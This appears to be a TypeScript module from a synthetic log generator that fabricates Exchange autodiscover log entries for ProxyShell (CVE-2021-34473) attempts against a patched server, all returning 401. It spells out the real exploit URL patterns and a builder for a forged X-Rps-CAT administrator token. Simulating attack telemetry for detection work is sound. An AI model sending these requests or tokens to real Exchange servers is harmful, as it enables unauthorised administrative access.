// ProxyShell path-confusion attempts (CVE-2021-34473) against a patched server: every request ends in 401.

import type { Env } from '../env.js';
import type { Timeline } from './timeline.js';

/**
 * The `X-Rps-CAT` value public tools send: a serialized CommonAccessToken (version, type `Windows`,
 * `Kerberos`, logon name, SID), base64-encoded. Built here from its published layout.
 */
export function rpsCat(logon: string, sid: string): string {
  const parts: Buffer[] = [
    Buffer.from([0x56, 1, 0, 0x54, 7]),
    Buffer.from('Windows'),
    Buffer.from([0x43, 0, 0x41, 8]),
  ];
  parts.push(Buffer.from('Kerberos'), Buffer.from([0x4c, logon.length]), Buffer.from(logon));
  parts.push(
    Buffer.from([0x55, sid.length]),
    Buffer.from(sid),
    Buffer.from([0x47, 0, 0, 0, 0, 0x45, 0, 0, 0, 0]),
  );
  return Buffer.concat(parts).toString('base64');
}

export function proxyShellAttempts(
  env: Env,
  tl: Timeline,
  t0: number,
  ip: string,
  ua: string,
  domain: string,
): number {
  const { rng, site } = env;
  const email = `&Email=autodiscover/autodiscover.json%3F@${domain}`;
  const cat = rpsCat(`administrator@${site.mailDomain}`, `${site.domainSid}-500`);
  const tries: readonly [string, string][] = [
    ['GET', `@${domain}/owa/?${email}`],
    ['POST', `@${domain}/mapi/nspi/?${email}`],
    ['POST', `@${domain}/EWS/exchange.asmx?${email}`],
    ['POST', `@${domain}/powershell/?X-Rps-CAT=${cat}${email}`],
    ['GET', `Email=autodiscover/autodiscover.json%3F@${domain}`],
  ];
  let t = t0;
  for (const [method, query] of tries) {
    t += rng.int(150, 2500);
    env.book.add({
      t, taken: rng.int(5, 30), rid: rng.guid(), method, host: site.extHost, port: 443,
      stem: '/autodiscover/autodiscover.json', query, status: 401, cip: ip, ua, proto: 'Autodiscover',
      px: { AuthenticationType: '', IsAuthenticated: 'false', ErrorCode: 'Unauthorized' },
    }); // prettier-ignore
    tl.add(t, ip, 'proxyshell:autodiscover-401', `/autodiscover/autodiscover.json?${query}`);
  }
  return t;
}
